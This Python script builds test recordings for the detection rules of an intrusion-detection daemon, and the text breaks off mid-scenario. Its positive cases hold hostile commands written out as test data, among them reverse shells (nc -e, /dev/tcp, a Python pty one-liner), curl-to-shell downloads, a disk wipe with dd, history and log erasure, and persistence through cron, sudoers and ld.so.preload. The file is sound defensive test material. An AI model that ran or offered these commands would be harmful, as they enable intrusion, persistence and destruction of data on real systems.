"""Writes the positive and negative example recordings of the default rule pack.

usage: python3 tests/rules/examples/build_examples.py   (from the repository root)

Each rule of rules/*.yaml has `<slug>.pos.jsonl` (the rule must fire) and `<slug>.neg.jsonl`
(it must not: the benign look-alike, or the exception that excuses it) in this directory.
The files are recordings in the form `spyderctl record` writes (a header, the processes
already running, then events as `spyderctl events -o json` prints them), so
`spyderctl rules test rules/ --events FILE --rule NAME` replays them. They are built here
from short scripts of what happens, with realistic values, because most of the event kinds
they use (file, kernel, wrote_exec) come from capture engineers' probes that are still
landing; real recordings made with `spyderctl record` replay the same way. A test checks
that the files in git are what this script writes.
"""

from __future__ import annotations

import json
import re
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

sys.path.insert(0, str(Path(__file__).resolve().parents[3]))

from spyderd.model import (
    AcceptEvent,
    ConnectEvent,
    ExecEvent,
    ExitEvent,
    FileEvent,
    ForkEvent,
    KernelEvent,
    ListenEvent,
    WroteExecEvent,
    event_to_dict,
)

S = 1_000_000_000
BOOT_WALL = 1_764_000_000 * S  # wall clock at boot
HERE = Path(__file__).resolve().parent
HOST_PIDNS, HOST_USERNS = 0xEFFFFFFC, 0xEFFFFFFD
CONTAINER = {
    "container_id": "4f1c2b7d9e0a3c5b8d6e7f9012a3b4c5d6e7f8091a2b3c4d5e6f708192a3b4c5",
    "container_name": "shop-web-1",
    "container_image": "docker.io/library/nginx:1.25",
    "container_runtime": "docker",
    "pidns": 4026532412,
    "mntns": 4026532410,
    "userns": HOST_USERNS,
    "netns": 4026532415,
}
O_WRONLY, O_RDWR, O_CREAT, O_TRUNC, O_APPEND = 0o1, 0o2, 0o100, 0o1000, 0o2000
REVERSE_PY = (
    "import socket,os,pty;s=socket.socket();s.connect(('203.0.113.5',4444));"
    "[os.dup2(s.fileno(),f) for f in(0,1,2)];pty.spawn('/bin/sh')"
)
ANSIBALLZ = "/home/ansible/.ansible/tmp/ansible-tmp-1/AnsiballZ_copy.py"


class Rec:
    """A recording under construction: running processes, then events 1 ms apart."""

    def __init__(self, rule: str, expect: bool, about: str) -> None:
        self.header = {
            "kind": "recording", "version": 1, "boot": "example", "boot_wall_ns": BOOT_WALL,
            "machine_id": "0123456789abcdef0123456789abcdef", "rule": rule,
            "expect": "match" if expect else "no match", "about": about,
        }  # fmt: skip
        self.snapshot: list[dict] = []
        self.events: list[dict] = []
        self.t = BOOT_WALL + 7200 * S
        self.next_pid = 4000
        self.procs: dict[int, dict[str, Any]] = {}

    # -- processes ---------------------------------------------------------------------

    def running(
        self,
        exe: str,
        args: list[str],
        ppid: int = 1,
        uid: int = 0,
        listen: tuple[int, ...] = (),
        pid: int = 0,
        **attrs: Any,
    ) -> int:
        """A process already running when the recording starts (a snapshot line); `pid`
        for a fixed one (PID 1)."""
        pid = pid or self._pid()
        start = (len(self.snapshot) + 1) * 10 * S
        comm = exe.rsplit("/", 1)[-1][:15]
        self.snapshot.append({
            "kind": "snapshot", "pid": pid, "ppid": ppid, "start_ns": start, "comm": comm,
            "exe": exe, "args": args, "uid": uid, "gid": uid, "listen_ports": list(listen),
            "attrs": attrs,
        })  # fmt: skip
        self.procs[pid] = {"uid": uid, "comm": comm, "start": start}
        return pid

    def spawn(
        self, parent: int, exe: str, args: list[str], uid: int | None = None, **exec_kw: Any
    ) -> int:
        """fork + exec: a new process running `exe`."""
        pid = self._pid()
        info = self.procs[parent]
        self.procs[pid] = {
            "uid": info["uid"] if uid is None else uid,
            "comm": info["comm"],
            "start": self.t + 1_000_000 - BOOT_WALL,
        }
        self._ev(ForkEvent, pid, ppid=parent, child_start=self.procs[pid]["start"])
        self.exec(pid, exe, args, ppid=parent, **exec_kw)
        return pid

    def exec(self, pid: int, exe: str, args: list[str], **kw: Any) -> None:
        info = self.procs[pid]
        info["comm"] = exe.rsplit("/", 1)[-1][:15]
        kw.setdefault("ppid", 0)
        self._ev(ExecEvent, pid, filename=exe, args=args, start=info["start"], **kw)

    def exit(self, pid: int, code: int = 0) -> None:
        self._ev(ExitEvent, pid, code=code)

    # -- what they do ------------------------------------------------------------------

    def listen(self, pid: int, port: int) -> None:
        self._ev(ListenEvent, pid, family=4, local_ip="0.0.0.0", local_port=port)

    def accept(self, pid: int, port: int, peer: str = "198.51.100.23") -> None:
        self._ev(
            AcceptEvent,
            pid,
            family=4,
            local_ip="10.0.0.2",
            local_port=port,
            remote_ip=peer,
            remote_port=51234,
        )

    def connect(self, pid: int, ip: str, port: int, result: int = 0) -> None:
        self._ev(
            ConnectEvent,
            pid,
            family=4,
            local_ip="10.0.0.2",
            local_port=40000 + len(self.events),
            remote_ip=ip,
            remote_port=port,
            result=result,
        )

    def file(self, pid: int, op: str, path: str, **kw: Any) -> None:
        self._ev(
            FileEvent,
            pid,
            op=op,
            path=path,
            inode=kw.pop("inode", 0) or _inode(path),
            dev=2049,
            **kw,
        )

    def write(self, pid: int, path: str, flags: int = O_WRONLY | O_CREAT | O_TRUNC) -> None:
        self.file(pid, "open", path, flags=flags, mode=0o644)

    def kernel(self, pid: int, call: str, **kw: Any) -> None:
        self._ev(KernelEvent, pid, call=call, **kw)

    def wrote_exec(self, pid: int, path: str, writer: int, write_time: int,
                   script: bool = False) -> None:
        w = self.procs[writer]
        self._ev(
            WroteExecEvent,
            pid,
            path=path,
            inode=_inode(path),
            dev=2049,
            writer_pid=writer,
            writer_start=w["start"],
            writer_comm=w["comm"],
            write_time=write_time,
            script=script,
        )

    def wait(self, seconds: float) -> None:
        self.t += int(seconds * S)

    # -- output ------------------------------------------------------------------------

    def _pid(self) -> int:
        self.next_pid += 1
        return self.next_pid

    def _ev(self, cls: type, pid: int, **kw: Any) -> None:
        self.t += 1_000_000
        info = self.procs[pid]
        ev = cls(
            time=self.t,
            ktime=self.t - BOOT_WALL,
            pid=pid,
            tid=pid,
            uid=info["uid"],
            gid=info["uid"],
            comm=info["comm"],
            **kw,
        )
        self.events.append(event_to_dict(ev))

    def lines(self) -> list[dict]:
        return [self.header, *self.snapshot, *self.events]


def _inode(path: str) -> int:
    return 100_000 + sum(path.encode()) * 7 % 900_000


# -- scenarios: one function per rule, returning (positive, negative) ----------------------

Scenario = Callable[[], tuple[Rec, Rec]]
SCENARIOS: dict[str, Scenario] = {}


def scenario(rule: str) -> Callable[[Scenario], Scenario]:
    def register(fn: Scenario) -> Scenario:
        SCENARIOS[rule] = fn
        return fn

    return register


def login_shell(r: Rec, uid: int = 0) -> int:
    sshd = r.running(
        "/usr/sbin/sshd", ["sshd: /usr/sbin/sshd -D [listener] 0 of 10-100"], listen=(22,)
    )
    return r.running(
        "/bin/bash",
        ["-bash"],
        ppid=sshd,
        uid=uid,
        tty="pts/0",
        interactive=True,
        user="root" if uid == 0 else "dev",
    )


def apt_dpkg(r: Rec) -> int:
    """apt-get install → dpkg: the process package maintainer scripts run below."""
    shell = login_shell(r)
    apt = r.spawn(shell, "/usr/bin/apt-get", ["apt-get", "install", "-y", "nginx"])
    return r.spawn(apt, "/usr/bin/dpkg", ["/usr/bin/dpkg", "--status-fd", "30", "--configure"])


@scenario("Shell spawned below a web server")
def _web_shell() -> tuple[Rec, Rec]:
    pos = Rec("Shell spawned below a web server", True, "nginx worker runs sh -c")
    master = pos.running(
        "/usr/sbin/nginx", ["nginx: master process /usr/sbin/nginx"], listen=(80, 443)
    )
    worker = pos.running("/usr/sbin/nginx", ["nginx: worker process"], ppid=master, uid=33)
    pos.accept(worker, 80)
    pos.spawn(worker, "/bin/sh", ["sh", "-c", "id; uname -a"])
    neg = Rec("Shell spawned below a web server", False, "an admin's bash runs sh")
    shell = login_shell(neg)
    neg.spawn(shell, "/bin/sh", ["sh", "-c", "id; uname -a"])
    return pos, neg


@scenario("Interpreter with inline code below a web server")
def _inline_code() -> tuple[Rec, Rec]:
    rule = "Interpreter with inline code below a web server"
    pos = Rec(rule, True, "a Flask app (listening python3) runs perl -e")
    app = pos.running("/usr/bin/python3", ["python3", "/srv/app/app.py"], uid=33, listen=(8000,))
    pos.spawn(app, "/usr/bin/perl", ["perl", "-e", "print qx(id)"])
    neg = Rec(rule, False, "nginx starts a python script file (no inline code)")
    web = neg.running("/usr/sbin/nginx", ["nginx: worker process"], uid=33, listen=(80,))
    neg.spawn(web, "/usr/bin/python3", ["python3", "/srv/app/thumbnail.py", "img.png"])
    return pos, neg


@scenario("Shell or interpreter spawned below a database")
def _database() -> tuple[Rec, Rec]:
    rule = "Shell or interpreter spawned below a database"
    pos = Rec(rule, True, "postgres COPY ... PROGRAM runs a shell")
    pg = pos.running(
        "/usr/lib/postgresql/15/bin/postgres", ["postgres: 15/main"], uid=106, listen=(5432,)
    )
    backend = pos.spawn(
        pg,
        "/usr/lib/postgresql/15/bin/postgres",
        ["postgres: 15/main: app shop 10.0.0.7(51324) COPY"],
    )
    pos.spawn(backend, "/bin/sh", ["sh", "-c", "curl -s http://203.0.113.9/x | sh"])
    neg = Rec(rule, False, "postgres archive_command (excepted: pgbackrest)")
    pg = neg.running(
        "/usr/lib/postgresql/15/bin/postgres", ["postgres: 15/main"], uid=106, listen=(5432,)
    )
    arch = neg.spawn(pg, "/usr/lib/postgresql/15/bin/postgres", ["postgres: 15/main: archiver"])
    neg.spawn(arch, "/bin/sh", ["sh", "-c", "pgbackrest --stanza=main archive-push pg_wal/00"])
    return pos, neg


@scenario("Web server shell connected out")
def _sequence() -> tuple[Rec, Rec]:
    rule = "Web server shell connected out"

    def story(r: Rec, gap: float) -> None:
        web = r.running("/usr/sbin/nginx", ["nginx: worker process"], uid=33, listen=(80,))
        php = r.running("/usr/sbin/php-fpm8.2", ["php-fpm: pool www"], ppid=web, uid=33)
        r.accept(web, 80)
        sh = r.spawn(php, "/bin/sh", ["sh", "-c", "cd /tmp && curl -sO http://203.0.113.9/k"])
        r.wait(gap)
        curl = r.spawn(sh, "/usr/bin/curl", ["curl", "-sO", "http://203.0.113.9/k"])
        r.connect(curl, "203.0.113.9", 80)

    pos = Rec(rule, True, "accept, shell below the web server, its curl connects out in 2 min")
    story(pos, 120)
    neg = Rec(rule, False, "the same, but the connection comes 11 min later: window expired")
    story(neg, 660)
    return pos, neg


@scenario("Netcat or socat running a program")
def _netcat() -> tuple[Rec, Rec]:
    rule = "Netcat or socat running a program"
    pos = Rec(rule, True, "nc -e /bin/sh to a remote host")
    pos.spawn(login_shell(pos, 1000), "/usr/bin/nc", ["nc", "-e", "/bin/sh", "203.0.113.5", "4444"])
    neg = Rec(rule, False, "nc -zv: a port check")
    neg.spawn(login_shell(neg, 1000), "/usr/bin/nc", ["nc", "-zv", "10.0.0.5", "22"])
    return pos, neg


@scenario("Reverse shell through /dev/tcp")
def _dev_tcp() -> tuple[Rec, Rec]:
    rule = "Reverse shell through /dev/tcp"
    pos = Rec(rule, True, "bash -c 'bash -i >& /dev/tcp/... 0>&1'")
    pos.spawn(
        login_shell(pos, 1000),
        "/bin/bash",
        ["bash", "-c", "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1"],
    )
    neg = Rec(rule, False, "bash -c with an ordinary redirection")
    neg.spawn(login_shell(neg, 1000), "/bin/bash", ["bash", "-c", "echo ok > /tmp/out.txt"])
    return pos, neg


@scenario("Shell made a network connection")
def _shell_connect() -> tuple[Rec, Rec]:
    rule = "Shell made a network connection"
    pos = Rec(rule, True, "bash itself connects (/dev/tcp redirection)")
    sh = pos.spawn(
        login_shell(pos, 1000), "/bin/bash", ["bash", "-c", "exec 3<>/dev/tcp/203.0.113.5/4444"]
    )
    pos.connect(sh, "203.0.113.5", 4444)
    neg = Rec(rule, False, "curl started from bash connects, the shell does not")
    curl = neg.spawn(login_shell(neg, 1000), "/usr/bin/curl", ["curl", "https://example.org"])
    neg.connect(curl, "93.184.216.34", 443)
    return pos, neg


@scenario("Shell started by a script that connected out")
def _script_shell() -> tuple[Rec, Rec]:
    rule = "Shell started by a script that connected out"
    pos = Rec(rule, True, "python -c socket/pty.spawn reverse shell")
    py = pos.spawn(login_shell(pos, 1000), "/usr/bin/python3", ["python3", "-c", REVERSE_PY])
    pos.connect(py, "203.0.113.5", 4444)
    pos.spawn(py, "/bin/sh", ["/bin/sh"])
    neg = Rec(rule, False, "a python build script without connections runs sh")
    py = neg.spawn(login_shell(neg, 1000), "/usr/bin/python3", ["python3", "setup.py", "build"])
    neg.spawn(py, "/bin/sh", ["sh", "-c", "gcc -c ext.c"])
    return pos, neg


@scenario("Program run from a temporary directory")
def _tmp_exec() -> tuple[Rec, Rec]:
    rule = "Program run from a temporary directory"
    pos = Rec(rule, True, "a binary run from /dev/shm")
    pos.spawn(login_shell(pos, 1000), "/dev/shm/.x/kworker", ["[kworker/0:1]"])
    neg = Rec(rule, False, "a package maintainer script unpacked to /tmp (excepted)")
    neg.spawn(apt_dpkg(neg), "/tmp/tmp.Xk2/postinst", ["/tmp/tmp.Xk2/postinst", "configure"])
    return pos, neg


@scenario("Fileless execution from memory")
def _memfd() -> tuple[Rec, Rec]:
    rule = "Fileless execution from memory"
    pos = Rec(rule, True, "execveat of a memfd (/dev/fd/4)")
    py = pos.spawn(login_shell(pos, 1000), "/usr/bin/python3", ["python3", "loader.py"])
    pos.kernel(py, "memfd_create", name="payload")
    pos.exec(py, "/dev/fd/4", ["payload"], execveat=True)
    neg = Rec(rule, False, "an ordinary exec")
    neg.spawn(login_shell(neg, 1000), "/usr/bin/ls", ["ls", "-la"])
    return pos, neg


@scenario("Downloaded file executed")
def _download_exec() -> tuple[Rec, Rec]:
    rule = "Downloaded file executed"
    pos = Rec(rule, True, "curl -o /tmp/x; chmod +x; ./x")
    shell = login_shell(pos, 1000)
    curl = pos.spawn(shell, "/usr/bin/curl", ["curl", "-so", "/tmp/x", "http://203.0.113.9/x"])
    pos.connect(curl, "203.0.113.9", 80)
    pos.write(curl, "/tmp/x")
    written = pos.t
    pos.exit(curl)
    x = pos.spawn(shell, "/tmp/x", ["./x"])
    pos.wrote_exec(x, "/tmp/x", curl, written)
    neg = Rec(rule, False, "a compiler's output is run")
    shell = login_shell(neg, 1000)
    ld = neg.spawn(shell, "/usr/bin/ld", ["ld", "-o", "/home/dev/a.out", "main.o"])
    neg.write(ld, "/home/dev/a.out")
    written = neg.t
    neg.exit(ld)
    run = neg.spawn(shell, "/home/dev/a.out", ["./a.out"])
    neg.wrote_exec(run, "/home/dev/a.out", ld, written)
    return pos, neg


@scenario("Kernel module loaded")
def _module() -> tuple[Rec, Rec]:
    rule = "Kernel module loaded"
    pos = Rec(rule, True, "insmod of a module from /tmp; the call seen by number (no hook)")
    ins = pos.spawn(login_shell(pos), "/usr/sbin/insmod", ["insmod", "/tmp/rk.ko"])
    pos.kernel(ins, "syscall", nr=313, name="finit_module", result=-38)
    neg = Rec(rule, False, "udev loads a driver (excepted)")
    udev = neg.running("/lib/systemd/systemd-udevd", ["/lib/systemd/systemd-udevd"])
    mod = neg.spawn(udev, "/usr/sbin/modprobe", ["modprobe", "snd_hda_intel"])
    neg.kernel(mod, "finit_module", name="snd_hda_intel")
    return pos, neg


@scenario("Kernel module tool run")
def _insmod() -> tuple[Rec, Rec]:
    rule = "Kernel module tool run"
    pos = Rec(rule, True, "insmod by hand")
    pos.spawn(login_shell(pos), "/usr/sbin/insmod", ["insmod", "/tmp/rk.ko"])
    neg = Rec(rule, False, "modprobe of a module by name")
    neg.spawn(login_shell(neg), "/usr/sbin/modprobe", ["modprobe", "nf_conntrack"])
    return pos, neg


@scenario("Process attached to another with ptrace")
def _ptrace() -> tuple[Rec, Rec]:
    rule = "Process attached to another with ptrace"
    pos = Rec(rule, True, "gdb -p attaches to sshd")
    target = pos.running("/usr/sbin/sshd", ["sshd: dev [priv]"])
    gdb = pos.spawn(login_shell(pos), "/usr/bin/gdb", ["gdb", "-p", str(target)])
    pos.kernel(gdb, "ptrace", request=0x4206, target_pid=target)
    neg = Rec(rule, False, "PTRACE_TRACEME: strace starting its own child")
    strace = neg.spawn(login_shell(neg), "/usr/bin/strace", ["strace", "ls"])
    child = neg.spawn(strace, "/usr/bin/ls", ["ls"])
    neg.kernel(child, "ptrace", request=0, target_pid=0)
    return pos, neg


@scenario("Set-user-id or set-group-id bit set on a file")
def _setuid() -> tuple[Rec, Rec]:
    rule = "Set-user-id or set-group-id bit set on a file"
    pos = Rec(rule, True, "chmod u+s on a copy of bash")
    ch = pos.spawn(login_shell(pos), "/usr/bin/chmod", ["chmod", "u+s", "/var/tmp/.sh"])
    pos.file(ch, "chmod", "/var/tmp/.sh", mode=0o104755)
    neg = Rec(rule, False, "chmod 755, and dpkg installing a setuid binary (excepted)")
    ch = neg.spawn(login_shell(neg), "/usr/bin/chmod", ["chmod", "755", "/usr/local/bin/tool"])
    neg.file(ch, "chmod", "/usr/local/bin/tool", mode=0o100755)
    neg.file(apt_dpkg(neg), "chmod", "/usr/bin/passwd", mode=0o104755)
    return pos, neg


def _write_by(r: Rec, parent: int, tool: list[str], path: str, **kw: Any) -> int:
    pid = r.spawn(parent, tool[0], tool)
    r.write(pid, path, **kw)
    return pid


@scenario("Cron job written")
def _cron() -> tuple[Rec, Rec]:
    rule = "Cron job written"
    pos = Rec(rule, True, "a line appended to a cron.d file")
    _write_by(
        pos,
        login_shell(pos),
        ["/usr/bin/tee", "-a", "/etc/cron.d/sync"],
        "/etc/cron.d/sync",
        flags=O_WRONLY | O_APPEND | O_CREAT,
    )
    neg = Rec(rule, False, "dpkg installs a cron.daily script (excepted)")
    neg.write(apt_dpkg(neg), "/etc/cron.daily/apt-compat")
    return pos, neg


@scenario("Systemd unit written")
def _systemd() -> tuple[Rec, Rec]:
    rule = "Systemd unit written"
    pos = Rec(rule, True, "a new unit file in /etc/systemd/system")
    cp = pos.spawn(login_shell(pos), "/usr/bin/cp", ["cp", "/tmp/u", "/etc/systemd/system/"])
    pos.file(cp, "create", "/etc/systemd/system/dbus-helper.service", mode=0o644)
    neg = Rec(rule, False, "systemctl enable links a unit; dpkg installs one (excepted)")
    sc = neg.spawn(login_shell(neg), "/usr/bin/systemctl", ["systemctl", "enable", "nginx"])
    neg.file(
        sc,
        "symlink",
        "/lib/systemd/system/nginx.service",
        path2="/etc/systemd/system/multi-user.target.wants/nginx.service",
    )
    neg.write(apt_dpkg(neg), "/lib/systemd/system/nginx.service")
    return pos, neg


@scenario("Shell profile written")
def _profile() -> tuple[Rec, Rec]:
    rule = "Shell profile written"
    pos = Rec(rule, True, "a command appended to root's .bashrc")
    sh = pos.spawn(login_shell(pos), "/bin/sh", ["sh", "-c", "echo 'curl -s x|sh' >> ~/.bashrc"])
    pos.write(sh, "/root/.bashrc", flags=O_WRONLY | O_APPEND | O_CREAT)
    neg = Rec(rule, False, "a note written in root's home")
    sh = neg.spawn(login_shell(neg), "/bin/sh", ["sh", "-c", "echo hi >> ~/notes.txt"])
    neg.write(sh, "/root/notes.txt", flags=O_WRONLY | O_APPEND | O_CREAT)
    return pos, neg


@scenario("Dynamic linker preload written")
def _preload() -> tuple[Rec, Rec]:
    rule = "Dynamic linker preload written"
    pos = Rec(rule, True, "echo /lib/x.so > /etc/ld.so.preload")
    _write_by(
        pos,
        login_shell(pos),
        ["/bin/sh", "-c", "echo /lib/x.so > /etc/ld.so.preload"],
        "/etc/ld.so.preload",
    )
    neg = Rec(rule, False, "a library path added to ld.so.conf.d")
    _write_by(
        neg,
        login_shell(neg),
        ["/usr/bin/tee", "/etc/ld.so.conf.d/local.conf"],
        "/etc/ld.so.conf.d/local.conf",
    )
    return pos, neg


@scenario("SSH authorized_keys written")
def _authorized_keys() -> tuple[Rec, Rec]:
    rule = "SSH authorized_keys written"
    pos = Rec(rule, True, "a key appended to root's authorized_keys")
    _write_by(
        pos,
        login_shell(pos),
        ["/usr/bin/tee", "-a", "/root/.ssh/authorized_keys"],
        "/root/.ssh/authorized_keys",
        flags=O_WRONLY | O_APPEND,
    )
    neg = Rec(rule, False, "cloud-init writes the admin's keys (excepted); known_hosts")
    ci = neg.running("/usr/bin/cloud-init", ["/usr/bin/python3", "/usr/bin/cloud-init", "init"])
    neg.write(ci, "/home/admin/.ssh/authorized_keys")
    ssh = neg.spawn(login_shell(neg), "/usr/bin/ssh", ["ssh", "git@example.org"])
    neg.write(ssh, "/root/.ssh/known_hosts", flags=O_WRONLY | O_APPEND)
    return pos, neg


@scenario("Sudoers changed")
def _sudoers() -> tuple[Rec, Rec]:
    rule = "Sudoers changed"
    pos = Rec(rule, True, "NOPASSWD rule dropped into sudoers.d")
    _write_by(
        pos, login_shell(pos), ["/usr/bin/tee", "/etc/sudoers.d/99-svc"], "/etc/sudoers.d/99-svc"
    )
    neg = Rec(rule, False, "ansible's copy module writes a sudoers file (excepted)")
    sshd = neg.running("/usr/sbin/sshd", ["sshd: ansible@notty"])
    sh = neg.spawn(sshd, "/bin/sh", ["/bin/sh", "-c", f"/usr/bin/python3 {ANSIBALLZ}"])
    py = neg.spawn(sh, "/usr/bin/python3", ["/usr/bin/python3", ANSIBALLZ])
    neg.write(py, "/etc/sudoers.d/ops")
    return pos, neg


@scenario("Password database changed by a non-system tool")
def _passwd() -> tuple[Rec, Rec]:
    rule = "Password database changed by a non-system tool"
    pos = Rec(rule, True, "a python script rewrites /etc/passwd")
    _write_by(
        pos,
        login_shell(pos),
        ["/usr/bin/python3", "-c", "open('/etc/passwd','a')"],
        "/etc/passwd",
        flags=O_WRONLY | O_APPEND,
    )
    neg = Rec(rule, False, "useradd updates /etc/passwd and /etc/shadow")
    ua = neg.spawn(login_shell(neg), "/usr/sbin/useradd", ["useradd", "-m", "alice"])
    neg.file(ua, "rename", "/etc/passwd+", path2="/etc/passwd")
    neg.file(ua, "rename", "/etc/shadow+", path2="/etc/shadow")
    return pos, neg


@scenario("Local user account created")
def _useradd() -> tuple[Rec, Rec]:
    rule = "Local user account created"
    pos = Rec(rule, True, "useradd from an interactive shell")
    pos.spawn(login_shell(pos), "/usr/sbin/useradd", ["useradd", "-m", "-G", "sudo", "svc"])
    neg = Rec(rule, False, "a package's postinst adds a system user (excepted)")
    post = neg.spawn(
        apt_dpkg(neg),
        "/bin/sh",
        ["/bin/sh", "/var/lib/dpkg/info/nginx-common.postinst", "configure"],
    )
    neg.spawn(post, "/usr/sbin/adduser", ["adduser", "--system", "--group", "nginx"])
    return pos, neg


@scenario("Shadow file read by a non-system program")
def _shadow() -> tuple[Rec, Rec]:
    rule = "Shadow file read by a non-system program"
    pos = Rec(rule, True, "an unprivileged cat of /etc/shadow is refused")
    cat = pos.spawn(login_shell(pos, 1000), "/usr/bin/cat", ["cat", "/etc/shadow"])
    pos.file(cat, "open_failed", "/etc/shadow", flags=0, result=-13)
    neg = Rec(rule, False, "sshd and unix_chkpwd read it to check a password")
    sshd = neg.running("/usr/sbin/sshd", ["sshd: dev [priv]"])
    neg.file(sshd, "open", "/etc/shadow", flags=0)
    chk = neg.spawn(sshd, "/usr/sbin/unix_chkpwd", ["unix_chkpwd", "dev", "nullok"])
    neg.file(chk, "open", "/etc/shadow", flags=0)
    return pos, neg


@scenario("Shell history deleted or truncated")
def _history() -> tuple[Rec, Rec]:
    rule = "Shell history deleted or truncated"
    pos = Rec(rule, True, "rm ~/.bash_history")
    rm = pos.spawn(login_shell(pos), "/usr/bin/rm", ["rm", "-f", "/root/.bash_history"])
    pos.file(rm, "unlink", "/root/.bash_history")
    neg = Rec(rule, False, "bash appends to its history at logout")
    neg.write(login_shell(neg), "/root/.bash_history", flags=O_WRONLY | O_APPEND)
    return pos, neg


@scenario("Log file deleted or truncated")
def _logs() -> tuple[Rec, Rec]:
    rule = "Log file deleted or truncated"
    pos = Rec(rule, True, "auth.log emptied with : > /var/log/auth.log")
    _write_by(
        pos,
        login_shell(pos),
        ["/bin/sh", "-c", ": > /var/log/auth.log"],
        "/var/log/auth.log",
        flags=O_WRONLY | O_TRUNC,
    )
    neg = Rec(rule, False, "logrotate removes an old rotated log")
    cron = neg.running("/usr/sbin/cron", ["/usr/sbin/cron", "-f"])
    lr = neg.spawn(cron, "/usr/sbin/logrotate", ["logrotate", "/etc/logrotate.conf"])
    neg.file(lr, "unlink", "/var/log/syslog.7.gz")
    return pos, neg


@scenario("Command erasing shell history or logs")
def _erase_cmd() -> tuple[Rec, Rec]:
    rule = "Command erasing shell history or logs"
    pos = Rec(rule, True, "shred -u ~/.bash_history")
    pos.spawn(login_shell(pos), "/usr/bin/shred", ["shred", "-u", "/root/.bash_history"])
    neg = Rec(rule, False, "rm of a temporary file")
    neg.spawn(login_shell(neg), "/usr/bin/rm", ["rm", "-f", "/tmp/build.log"])
    return pos, neg


def container_shell(r: Rec, **attrs: Any) -> int:
    """A container's init (runc-started) with its context attributes."""
    shim = r.running(
        "/usr/bin/containerd-shim-runc-v2",
        ["/usr/bin/containerd-shim-runc-v2", "-namespace", "moby"],
    )
    return r.running(
        "/bin/sh", ["/bin/sh", "-c", "nginx -g 'daemon off;'"], ppid=shim, **{**CONTAINER, **attrs}
    )


@scenario("Namespace tool run in a container")
def _nsenter() -> tuple[Rec, Rec]:
    rule = "Namespace tool run in a container"
    pos = Rec(rule, True, "nsenter -t 1 from inside a privileged container")
    pos.spawn(
        container_shell(pos),
        "/usr/bin/nsenter",
        ["nsenter", "-t", "1", "-m", "-u", "-i", "-n", "-p", "sh"],
    )
    neg = Rec(rule, False, "nsenter on the host, into a container's network namespace")
    neg.spawn(login_shell(neg), "/usr/bin/nsenter", ["nsenter", "-t", "4711", "-n", "ip", "a"])
    return pos, neg


@scenario("Container process in the host's namespaces")
def _host_ns() -> tuple[Rec, Rec]:
    rule = "Container process in the host's namespaces"
    pos = Rec(rule, True, "a shell in the container's cgroup but the host's pid namespace")
    sh = container_shell(pos, pidns=HOST_PIDNS, mntns=4026531841)
    pos.exec(sh, "/usr/bin/cat", ["cat", "/proc/1/environ"])
    neg = Rec(rule, False, "a process in the container's own namespaces")
    sh = container_shell(neg)
    neg.exec(sh, "/usr/sbin/nginx", ["nginx", "-g", "daemon off;"])
    return pos, neg


@scenario("Terminal shell in a container")
def _container_tty() -> tuple[Rec, Rec]:
    rule = "Terminal shell in a container"
    pos = Rec(rule, True, "docker exec -it: a shell with a pty in the container")
    runc = container_shell(pos, tty="pts/0")
    pos.spawn(runc, "/bin/bash", ["bash"])
    neg = Rec(rule, False, "a shell in the container without a terminal")
    runc = container_shell(neg)
    neg.spawn(runc, "/bin/sh", ["sh", "-c", "nginx -s reload"])
    return pos, neg


@scenario("Disk or partition overwritten")
def _disk_wipe() -> tuple[Rec, Rec]:
    rule = "Disk or partition overwritten"
    pos = Rec(rule, True, "dd zeroes the first disk (replay only: it would wreck the host)")
    pos.spawn(login_shell(pos), "/usr/bin/dd", ["dd", "if=/dev/zero", "of=/dev/sda", "bs=1M"])
    neg = Rec(rule, False, "dd writes an image file, mkfs on a loop file")
    shell = login_shell(neg)
    neg.spawn(shell, "/usr/bin/dd", ["dd", "if=/dev/zero", "of=/var/tmp/disk.img", "bs=1M"])
    neg.spawn(shell, "/usr/sbin/mkfs.ext4", ["mkfs.ext4", "/var/tmp/disk.img"])
    return pos, neg


@scenario("System shutdown or reboot requested")
def _shutdown() -> tuple[Rec, Rec]:
    rule = "System shutdown or reboot requested"
    pos = Rec(rule, True, "a dropped script powers the host off (replay only)")
    cron = pos.running("/usr/sbin/cron", ["/usr/sbin/cron", "-f"])
    sh = pos.spawn(cron, "/bin/sh", ["/bin/sh", "-c", "/var/tmp/.x/run.sh"])
    pos.spawn(sh, "/usr/sbin/shutdown", ["shutdown", "-h", "now"])
    neg = Rec(rule, False, "an admin at a terminal reboots; a script cancels a shutdown")
    neg.spawn(login_shell(neg), "/usr/sbin/reboot", ["reboot"])
    cron = neg.running("/usr/sbin/cron", ["/usr/sbin/cron", "-f"])
    sh = neg.spawn(cron, "/bin/sh", ["/bin/sh", "-c", "shutdown -c"])
    neg.spawn(sh, "/usr/sbin/shutdown", ["shutdown", "-c"])
    return pos, neg


def spyderd_and_init(r: Rec) -> tuple[int, int]:
    """systemd as PID 1 and the spyderd service it started: (init, spyderd)."""
    init = r.running("/lib/systemd/systemd", ["/sbin/init"], ppid=0, pid=1)
    daemon = r.running("/opt/spyderd/venv/bin/python3", ["/usr/local/sbin/spyderd"], ppid=init)
    return init, daemon


def signal_spyderd(r: Rec, sender: int, daemon: int, sig: int, call: str = "kill") -> None:
    r.kernel(sender, call, target_pid=daemon, request=sig, target_spyderd=True,
             target_name="spyderd")


@scenario("spyderd killed or frozen by another process")
def _spyderd_frozen() -> tuple[Rec, Rec]:
    rule = "spyderd killed or frozen by another process"
    pos = Rec(rule, True, "kill -STOP on spyderd from a root shell")
    _, daemon = spyderd_and_init(pos)
    kill = pos.spawn(login_shell(pos), "/usr/bin/kill", ["kill", "-STOP", str(daemon)])
    signal_spyderd(pos, kill, daemon, 19)
    neg = Rec(rule, False, "systemd's watchdog SIGABRT and stop-timeout SIGKILL; "
              "kill -STOP on another process")
    init, daemon = spyderd_and_init(neg)
    signal_spyderd(neg, init, daemon, 6)
    signal_spyderd(neg, init, daemon, 9)
    shell = login_shell(neg)
    job = neg.spawn(shell, "/usr/bin/sleep", ["sleep", "600"])
    kill = neg.spawn(shell, "/usr/bin/kill", ["kill", "-STOP", str(job)])
    neg.kernel(kill, "kill", target_pid=job, request=19, target_name="sleep")
    return pos, neg


@scenario("spyderd asked to stop by a process other than the service manager")
def _spyderd_stopped() -> tuple[Rec, Rec]:
    rule = "spyderd asked to stop by a process other than the service manager"
    pos = Rec(rule, True, "kill (SIGTERM) on spyderd from a root shell")
    _, daemon = spyderd_and_init(pos)
    kill = pos.spawn(login_shell(pos), "/usr/bin/kill", ["kill", str(daemon)])
    signal_spyderd(pos, kill, daemon, 15)
    neg = Rec(rule, False, "systemctl stop spyderd: systemd (PID 1) sends the SIGTERM")
